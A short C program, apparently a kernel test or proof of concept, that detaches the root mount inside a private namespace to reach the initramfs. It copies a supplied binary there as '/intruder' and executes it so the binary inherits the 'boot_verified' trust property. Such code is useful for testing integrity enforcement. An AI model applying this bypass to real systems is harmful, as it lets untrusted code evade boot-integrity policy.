// SPDX-License-Identifier: GPL-2.0-only
/*
 * initramfs PROGRAM: digs out the initramfs from below the root volume, copies a
 * program into it and runs it there. The copy has the property boot_verified.
 */
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

#include "outcome.h"

int main(int argc, char **argv)
{
	char *const arguments[] = { "/intruder", NULL };
	int from, to, namespace;
	struct stat file;

	from = argc > 1 ? open(argv[1], O_RDONLY) : -1;
	if (from < 0 || fstat(from, &file))
		failure();

	/*
	 * In a mount namespace of its own the root volume can go without harm. To
	 * enter that namespace again is to look up its root again.
	 */
	if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		failure();
	namespace = open("/proc/self/ns/mnt", O_RDONLY);
	if (namespace < 0 || umount2("/", MNT_DETACH) || setns(namespace, CLONE_NEWNS))
		failure();

	to = open(arguments[0], O_WRONLY | O_CREAT, 0755);
	if (to < 0 || sendfile(to, from, NULL, file.st_size) != file.st_size || close(to))
		failure();
	execv(arguments[0], arguments);
	failure();
}
